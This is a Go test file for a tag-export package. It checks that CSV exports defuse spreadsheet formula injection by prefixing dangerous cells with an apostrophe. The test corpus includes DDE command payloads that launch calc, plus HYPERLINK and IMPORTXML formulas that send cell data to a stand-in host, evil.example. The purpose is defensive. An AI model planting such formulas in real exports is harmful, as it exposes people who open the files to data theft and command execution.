package export_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/require"

	"github.com/tagroar/tagroar/export"
	"github.com/tagroar/tagroar/tagset"
)

// The corpus of CSV injections: every trigger, behind every prefix that a program
// might trim, before every payload.
var (
	triggers = []string{"=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"}
	prefixes = []string{"", " ", "   ", "\u3000", "\u00a0", "\u200b", "\ufeff", "\x00", "\x0b", "\u202e", "\xff"}
	payloads = []string{
		"", "1", "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", `HYPERLINK("http://evil.example?x="&A1,"click")`,
		`IMPORTXML(CONCAT("http://evil.example/",A1),"//a")`, "2+3+cmd|' /C calc'!D2", `DDE("cmd";"/C calc";"x")`,
		"SUM(1;2)", "求和(A1)", "a,b", "\"", "=1", "A1\r\n=2",
	}
	harmless = []string{
		"VIP", "国家/France", "a=b", "1-2", "a@b.example", "3次以上", "'", "'=1", `"x"`, "wx_001", "12345", "核心特征-细分维度",
		"#=1", "(=1)", "中=文", "a\t=", "a\n=1", "x;=1", ".5", "!@", "é+",
	}
)

func corpus() (cases []string) {
	for _, trigger := range triggers {
		for _, prefix := range prefixes {
			for _, payload := range payloads {
				cases = append(cases, prefix+trigger+payload)
			}
		}
	}
	return cases
}

func TestInjectionCorpusIsNeutralised(t *testing.T) {
	cases := corpus()
	require.GreaterOrEqual(t, len(cases), 500)
	s := newStore(t, cases...)
	for i, row := range membersOf(t, s, len(cases)) {
		want := "'" + strings.ReplaceAll(cases[i], "\r\n", "\n") // encoding/csv reads CRLF so
		require.Equal(t, want, row[1], "case %q", cases[i])
	}

	// In the file itself each is one quoted cell that begins with the apostrophe.
	for i, key := range cases {
		var out bytes.Buffer
		require.NoError(t, export.Members(&out, s.View(), sequence(tagset.Member(i)), export.CSVOptions{LF: true}))
		cell := `"'` + strings.ReplaceAll(key, `"`, `""`) + `"`
		require.Equal(t, fmt.Sprintf("member,key\n%d,%s\n", i, cell), out.String())
	}
}

func TestHarmlessCellsStayAsTheyAre(t *testing.T) {
	for i, row := range membersOf(t, newStore(t, harmless...), len(harmless)) {
		require.Equal(t, harmless[i], row[1])
	}
}

// Owners, actors and names are text as well; weights and counts are numbers.
func TestTagCells(t *testing.T) {
	s := newStore(t)
	n := 0
	update(t, s, func(tx *tagset.Tx) error {
		for i, c := range corpus() {
			tag := tagset.Tag{Name: fmt.Sprint("t", i), Owner: c, Weight: tagset.Weight(-i)}
			if _, err := tx.By(c, "test").CreateTag(tag); err != nil {
				continue // not a text that the store takes
			}
			n++
		}
		return nil
	})
	require.NotZero(t, n)
	var out bytes.Buffer
	require.NoError(t, export.Tags(&out, s.View(), export.CSVOptions{}))
	rows, err := csv.NewReader(&out).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, n+1)
	for _, row := range rows[1:] {
		i, err := strconv.Atoi(strings.TrimPrefix(row[0], "t"))
		require.NoError(t, err)
		require.Equal(t, strconv.Itoa(-i), row[2], "a negative weight stays a number")
		for _, cell := range []string{row[3], row[6]} {
			first, _ := utf8.DecodeRuneInString(cell)
			require.Equal(t, '\'', first, "%q", cell)
		}
	}
}

// membersOf exports the first n members and reads the rows back.
func membersOf(t *testing.T, s *tagset.Store, n int) [][]string {
	t.Helper()
	var out bytes.Buffer
	require.NoError(t, export.Members(&out, s.View(), sequence(count(n)...), export.CSVOptions{}))
	rows, err := csv.NewReader(&out).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, n+1)
	return rows[1:]
}

// FuzzCells holds for any key: one row, two cells, and the first character of the
// second is no trigger.
func FuzzCells(f *testing.F) {
	for i, c := range corpus() {
		if i%40 == 0 {
			f.Add(c)
		}
	}
	f.Fuzz(func(t *testing.T, key string) {
		if len(key) == 0 || len(key) > 1024 {
			return
		}
		row := membersOf(t, newStore(t, key), 1)[0]
		require.Len(t, row, 2)
		cell := strings.TrimLeft(row[1], " \u3000")
		for _, trigger := range triggers {
			require.False(t, strings.HasPrefix(cell, trigger), "%q gave %q", key, row[1])
		}
	})
}
